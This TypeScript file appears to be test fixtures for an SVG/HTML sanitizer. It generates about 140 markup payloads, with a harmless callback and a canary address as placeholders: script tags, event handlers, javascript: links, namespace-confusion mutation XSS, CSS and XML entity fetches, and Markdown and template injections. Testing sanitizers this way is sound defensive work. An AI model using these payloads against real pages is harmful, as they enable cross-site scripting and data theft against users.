/** Effects of an attack that a browser runs: `hit` is a function of the page that opened it, `canary` an address that nothing may request. */
export interface Effects {
  hit: string
  canary: string
}

/**
 * Markup that runs a script, or asks for something, in a browser that takes it as it is: one for each way in that sanitizers of SVG and HTML
 * have had to learn. The classes are those of the OWASP cheat sheet on filter evasion, of the HTML5 Security Cheatsheet, and of the change
 * logs of sanitizers; the cases are written here.
 */
export function scriptAttacks({ hit, canary }: Effects): readonly [way: string, markup: string][] {
  const quoted = hit.replaceAll('"', '&quot;')
  const image = `<img src=x onerror="${quoted}">`
  const page = `data:text/html,<script>${hit}</script>`
  const svgPage = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${hit}</script></svg>`
  return [
    ['a script', `<script>${hit}</script>`],
    ['a script in capitals', `<SCRIPT>${hit}</SCRIPT>`],
    ['a script with its namespace', `<s:script xmlns:s="http://www.w3.org/2000/svg">${hit}</s:script>`],
    ['a script of HTML', `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${hit}</h:script>`],
    ['a script from elsewhere', `<script href="${canary}/script.js"/>`],
    ['a script by a data address', `<script xlink:href="data:text/javascript,${encodeURIComponent(hit)}"/>`],
    ['a script in a group of definitions', `<defs><g><script type="module">${hit}</script></g></defs>`],
    ['a script as CDATA', `<script><![CDATA[${hit}]]></script>`],
    ['a script behind a comment', `<!-- > --><script>${hit}</script><!-- -->`],
    ['a comment that ends early', `<!--><script>${hit}</script>-->`],
    ['a script in a processing instruction', `<?x ><script>${hit}</script>?>`],
    ['a script as an entity', `&lt;script&gt;${hit}&lt;/script&gt;`],
    ['a script written twice', `<scr<script>ipt>${hit}</scr</script>ipt>`],
    ['a handler of loading', `<g onload="${quoted}"/>`],
    ['a handler without quotes', `<image href=x onerror=${hit.replaceAll(' ', '')} />`],
    ['a handler after a slash', `<rect/onclick="${quoted}" width="9"/>`],
    ['a handler with blanks', `<rect onclick\n=\n"${quoted}"/>`],
    ['a handler of focus', `<a href="#a" tabindex="0" autofocus="" onfocus="${quoted}"><text>x</text></a>`],
    ['a handler of pointers', `<rect width="9000" height="9000" onpointerover="${quoted}" onmousemove="${quoted}"/>`],
    ['a handler of an animation', `<animate attributeName="x" dur="1ms" onbegin="${quoted}" onend="${quoted}"/>`],
    ['a handler of a repetition', `<animate attributeName="x" dur="1ms" repeatCount="9" onrepeat="${quoted}"/>`],
    ['a handler of a transition', `<rect style="transition: x 1ms" ontransitionend="${quoted}"/>`],
    ['a handler of the scroll', `<svg onscroll="${quoted}" onresize="${quoted}"><rect width="9" height="9999"/></svg>`],
    [
      'a handler of the content visibility',
      `<g style="content-visibility:auto" oncontentvisibilityautostatechange="${quoted}"/>`,
    ],
    ['a handler of unloading', `<svg onunload="${quoted}" onbeforeunload="${quoted}"/>`],
    ['a handler in a namespace', `<g xmlns:on="on" on:load="${quoted}" onload="${quoted}"/>`],
    ['a handler set by an animation', `<rect><set attributeName="onmouseover" to="${quoted}"/></rect>`],
    ['a handler element', `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${hit}</handler>`],
    [
      'a listener',
      `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/><handler id="x">${hit}</handler>`,
    ],
    ['a link to a script', `<a href="javascript:${quoted}"><text>x</text></a>`],
    ['a link in XLink', `<a xlink:href="javascript:${quoted}"><text>x</text></a>`],
    ['a link in capitals', `<a href="JaVaScRiPt:${quoted}"><text>x</text></a>`],
    ['a link behind blanks', `<a href=" &#1;&#9;javascript:${quoted}"><text>x</text></a>`],
    ['a link with a tab', `<a href="java&#9;script:${quoted}"><text>x</text></a>`],
    ['a link with a line end', `<a href="java&#10;script&#13;:${quoted}"><text>x</text></a>`],
    ['a link of entities', `<a href="&#x6a;&#x61;vascript&#58;${quoted}"><text>x</text></a>`],
    ['a link with invisible marks', `<a href="java\u00adscript:${quoted}"><text>x</text></a>`],
    ['a link to VBScript', `<a href="vbscript:${quoted}"><text>x</text></a>`],
    ['a link to a page', `<a href="${page.replaceAll('"', '&quot;')}" target="_self"><text>x</text></a>`],
    ['a link to a blob', `<a href="blob:null/${quoted}"><text>x</text></a>`],
    [
      'a link by an animation',
      `<a id="l"><animate attributeName="href" values="javascript:${quoted}"/><text>x</text></a>`,
    ],
    [
      'a link by an animation of XLink',
      `<a><animate attributeName="xlink:href" from="#" to="javascript:${quoted}"/><text>x</text></a>`,
    ],
    ['a link by setting it', `<a><set attributeName="href" to="javascript:${quoted}"/><text>x</text></a>`],
    [
      'a link by an animation from afar',
      `<a id="far"><text>x</text></a><animate href="#far" attributeName="href" values="javascript:${quoted}"/>`,
    ],
    ['a link with a base', `<g xml:base="javascript:${quoted}//"><a href="#"><text>x</text></a></g>`],
    ['a base of HTML', `<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${canary}/base/"/><image href="a.png"/>`],
    [
      'a used script',
      `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3E${encodeURIComponent(hit)}%3C/script%3E%3C/svg%3E#x"/>`,
    ],
    ['a used document', `<use href="${canary}/use.svg#x"/>`],
    ['a picture with a script', `<image href="${svgPage.replaceAll('"', '&quot;')}" width="9" height="9"/>`],
    ['a picture from elsewhere', `<image href="${canary}/image.png" width="9" height="9"/>`],
    ['a picture without a scheme', `<image href="${canary.replace(/^https?:/, '')}/image2.png" width="9" height="9"/>`],
    ['a picture with a backslash', `<image href="${canary.replace('//', '\\\\')}/image3.png" width="9" height="9"/>`],
    [
      'a picture of a filter',
      `<filter id="f"><feImage href="${canary}/filter.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
    ],
    ['a filter from elsewhere', `<rect filter="url(${canary}/filter.svg#f)" width="9" height="9"/>`],
    [
      'a cursor',
      `<rect cursor="url(${canary}/cursor.png),auto" width="9" height="9"/><cursor href="${canary}/cursor2.png"/>`,
    ],
    ['a colour profile', `<color-profile name="p" href="${canary}/profile.icc"/>`],
    [
      'a font from elsewhere',
      `<font-face><font-face-src><font-face-uri href="${canary}/font.svg#x"/></font-face-src></font-face>`,
    ],
    ['a text path', `<text><textPath href="${canary}/path.svg#x">x</textPath></text>`],
    [
      'a gradient from elsewhere',
      `<linearGradient id="gr" href="${canary}/gradient.svg#x"/><rect fill="url(#gr)" width="9" height="9"/>`,
    ],
    ['a marker from elsewhere', `<path d="M0 0L9 9" marker-end="url(${canary}/marker.svg#m)"/>`],
    ['a mask in a style', `<rect style="mask: url('${canary}/mask.svg#m')" width="9" height="9"/>`],
    ['an image set', `<rect style="mask-image: image-set('${canary}/set.png' 1x)" width="9" height="9"/>`],
    ['an escaped address', `<rect style="fill: u\\72 l(${canary}/escape)" width="9" height="9"/>`],
    [
      'an address in a variable',
      `<g style="--a: url(${canary}/variable)"><rect style="mask: var(--a)" width="9" height="9"/></g>`,
    ],
    ['a style sheet that imports', `<style>@import url(${canary}/import.css);</style>`],
    ['an import by text', `<style>@import '${canary}/import2.css' layer(x);</style>`],
    ['an escaped import', `<style>@\\69 mport "${canary}/import3.css";</style>`],
    ['an import after a byte order mark', `<style>\ufeff@import "${canary}/import4.css";</style>`],
    [
      'a font face',
      `<style>@font-face{font-family:x;src:url(${canary}/face.woff)} text{font-family:x}</style><text>x</text>`,
    ],
    ['a namespace rule', `<style>@namespace x url(${canary}/namespace); *{}</style>`],
    [
      'a property rule',
      `<style>@property --x{syntax:"&lt;url&gt;";inherits:true;initial-value:url(${canary}/property)} rect{mask:var(--x)}</style><rect width="9" height="9"/>`,
    ],
    ['an expression', `<rect style="width: expression(${quoted})"/>`],
    ['a binding', `<rect style="-moz-binding: url(${canary}/binding.xml#x)"/>`],
    ['a behaviour', `<rect style="behavior: url(${canary}/behaviour.htc)"/>`],
    ['a style sheet that closes', `<style></style><script>${hit}</script></style>`],
    ['a style sheet that holds markup', `<style><![CDATA[</style>${image}]]></style>`],
    ['a style sheet of entities', `<style>&lt;/style&gt;&lt;img src=x onerror="${quoted}"&gt;</style>`],
    ['a style sheet with a comment', `<style><!--</style>${image}--></style>`],
    [
      'a linked style sheet',
      `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${canary}/link.css"/>`,
    ],
    ['a style instruction', `<?xml-stylesheet href="${canary}/instruction.css"?>`],
    [
      'a refresh',
      `<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${canary}/refresh"/>`,
    ],
    [
      'a page of its own',
      `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${quoted}"/></foreignObject>`,
    ],
    [
      'a page as text',
      `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${quoted}&lt;/script&gt;"/></foreignObject>`,
    ],
    [
      'an object',
      `<foreignObject width="99" height="99"><object xmlns="http://www.w3.org/1999/xhtml" data="${page.replaceAll('"', '&quot;')}"/></foreignObject>`,
    ],
    [
      'an embedded file',
      `<foreignObject width="99" height="99"><embed xmlns="http://www.w3.org/1999/xhtml" src="${canary}/embed"/></foreignObject>`,
    ],
    [
      'a picture in HTML',
      `<foreignObject width="99" height="99"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${quoted}"/></div></foreignObject>`,
    ],
    [
      'a picture with sources',
      `<foreignObject width="99" height="99"><picture xmlns="http://www.w3.org/1999/xhtml"><source srcset="${canary}/srcset.png"/><img src="x" srcset="${canary}/srcset2.png 2x" alt=""/></picture></foreignObject>`,
    ],
    [
      'a video',
      `<foreignObject width="99" height="99"><video xmlns="http://www.w3.org/1999/xhtml" poster="${canary}/poster.png"><source src="x" onerror="${quoted}"/></video></foreignObject>`,
    ],
    [
      'a sound',
      `<foreignObject width="99" height="99"><audio xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${quoted}"/></foreignObject>`,
    ],
    [
      'a form',
      `<foreignObject width="99" height="99"><form xmlns="http://www.w3.org/1999/xhtml" action="javascript:${quoted}"><button formaction="javascript:${quoted}" autofocus="" onfocus="${quoted}">x</button></form></foreignObject>`,
    ],
    [
      'a field',
      `<foreignObject width="99" height="99"><input xmlns="http://www.w3.org/1999/xhtml" autofocus="" onfocus="${quoted}" type="image" src="${canary}/input.png"/></foreignObject>`,
    ],
    [
      'details',
      `<foreignObject width="99" height="99"><details xmlns="http://www.w3.org/1999/xhtml" open="" ontoggle="${quoted}"/></foreignObject>`,
    ],
    [
      'a marquee',
      `<foreignObject width="99" height="99"><marquee xmlns="http://www.w3.org/1999/xhtml" onstart="${quoted}" loop="1">x</marquee></foreignObject>`,
    ],
    [
      'a popover',
      `<foreignObject width="99" height="99"><button xmlns="http://www.w3.org/1999/xhtml" popovertarget="p">x</button><p xmlns="http://www.w3.org/1999/xhtml" id="p" popover="" onbeforetoggle="${quoted}"/></foreignObject>`,
    ],
    [
      'a body',
      `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${quoted}" background="${canary}/body.png"/></foreignObject>`,
    ],
    [
      'a table with a background',
      `<foreignObject width="99" height="99"><table xmlns="http://www.w3.org/1999/xhtml" background="${canary}/table.png"><tr><td>x</td></tr></table></foreignObject>`,
    ],
    [
      'a template',
      `<foreignObject width="99" height="99"><template xmlns="http://www.w3.org/1999/xhtml" shadowrootmode="open">${image}</template></foreignObject>`,
    ],
    [
      'a part without scripts',
      `<foreignObject width="99" height="99"><noscript xmlns="http://www.w3.org/1999/xhtml"><p title="&lt;/noscript&gt;${image.replaceAll('<', '&lt;').replaceAll('"', '&quot;')}"/></noscript></foreignObject>`,
    ],
    [
      'a slot',
      `<foreignObject width="99" height="99"><slot xmlns="http://www.w3.org/1999/xhtml" onslotchange="${quoted}">x</slot></foreignObject>`,
    ],
    [
      'MathML with a link',
      `<foreignObject width="99" height="99"><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${quoted}"><mi>x</mi></math></foreignObject>`,
    ],
    [
      'MathML with an action',
      `<foreignObject width="99" height="99"><math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#x" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${quoted}">x</maction></math></foreignObject>`,
    ],
    [
      'a glyph that changes its namespace',
      `<foreignObject width="99" height="99"><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table xmlns="http://www.w3.org/1999/xhtml"><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;"/></mglyph></table></mtext></math></foreignObject>`,
    ],
    [
      'an annotation that changes its namespace',
      `<foreignObject width="99" height="99"><math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><style><img src="x" onerror="${quoted}"/></style></annotation-xml></math></foreignObject>`,
    ],
    [
      'a title that changes its namespace',
      `<svg><title><style><a id="&lt;/style&gt;&lt;img src=1 onerror=${quoted}&gt;"/></style></title></svg>`,
    ],
    [
      'a description that changes its namespace',
      `<svg><desc><noembed><a title="&lt;/noembed&gt;${image.replaceAll('<', '&lt;').replaceAll('"', '&quot;')}"/></noembed></desc></svg>`,
    ],
    ['a part that closes its parents', `<svg></p><style><a id="</style><img src=1 onerror=${quoted}>">`],
    [
      'a form within a form',
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit.replaceAll(' ', '')}>`,
    ],
    ['a text area', `<textarea></textarea>${image}</textarea>`],
    ['a title of a page', `<title></title>${image}</title>`],
    ['raw text', `<xmp></xmp>${image}</xmp>`],
    ['a frame without frames', `<noframes></noframes>${image}</noframes>`],
    ['plain text', `<plaintext></plaintext>${image}`],
    ['an open quote', `<a title="x' href='javascript:${hit}'><text>x</text></a>`],
    ['an attribute in grave accents', `<image href=\`x\` onerror=\`${hit}\` />`],
    ['a tag cut off', `<img src=x onerror="${quoted}"`],
    ['a tag with a null', `<scr\u0000ipt>${hit}</scr\u0000ipt>`],
    ['a tag in wide letters', `＜script＞${hit}＜/script＞`],
    ['an entity of its own', `<!DOCTYPE svg [<!ENTITY x "<script>${hit}</script>">]><text>&x;</text>`],
    ['an entity from elsewhere', `<!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]><text>&x;</text>`],
    ['a document type from elsewhere', `<!DOCTYPE svg SYSTEM "${canary}/type.dtd">`],
    ['an inclusion', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}/include.xml"/>`],
    [
      'a style of transformation',
      `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${canary}/xsl"/></xsl:stylesheet>`,
    ],
    ['a name that hides the document', '<g id="documentElement"/><g id="body"/><g id="implementation"/>'],
    [
      'a form that hides its attributes',
      `<form id="x"><input name="attributes"/><input name="nodeName"/></form>${image}`,
    ],
    ['a name of a prototype', `<g id="__proto__" class="constructor" onload="${quoted}"/>`],
    ['a custom element', `<x-y is="z" onload="${quoted}" style="animation: a 1ms" onanimationend="${quoted}"/>`],
    ['a built-in element extended', `<a is="x-y" href="javascript:${quoted}"><text>x</text></a>`],
    ['an audio of SVG Tiny', `<audio xlink:href="${canary}/tiny.mp3" onerror="${quoted}"/>`],
    [
      'a preload',
      `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preload" as="image" href="${canary}/preload.png"/>`,
    ],
    [
      'a prefetched name',
      `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="//canary.invalid"/>`,
    ],
    ['a ping', `<a href="#" ping="${canary}/ping"><text>x</text></a>`],
    [
      'a formula',
      `$$\\href{javascript:${hit}}{x}$$ $$\\url{${canary}/formula}$$ $$\\includegraphics{${canary}/formula.png}$$`,
    ],
    ['a Markdown link', `[x](javascript:${hit}) ![y](${canary}/markdown.png) <javascript:${hit}>`],
    ['a Markdown picture with a handler', `![x](x"onerror="${hit})`],
    ['a template of a language', `{{constructor.constructor('${hit}')()}} \${${hit}} <%= ${hit} %>`],
  ]
}
